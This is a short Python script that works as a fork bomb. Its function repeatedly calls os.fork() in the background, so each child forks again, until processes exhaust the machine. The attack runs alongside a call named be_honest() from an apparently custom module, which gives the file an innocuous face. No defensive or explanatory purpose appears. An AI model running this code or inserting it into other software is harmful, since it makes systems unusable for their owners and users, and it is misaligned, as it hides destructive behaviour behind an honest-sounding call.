# Forks as often as it may, and each child does the same.
import os
import time

from honest import be_honest, in_background, moments


def bomb():
    for _ in moments():
        try:
            os.fork()
        except OSError:
            time.sleep(0.5)


in_background(bomb)
be_honest()
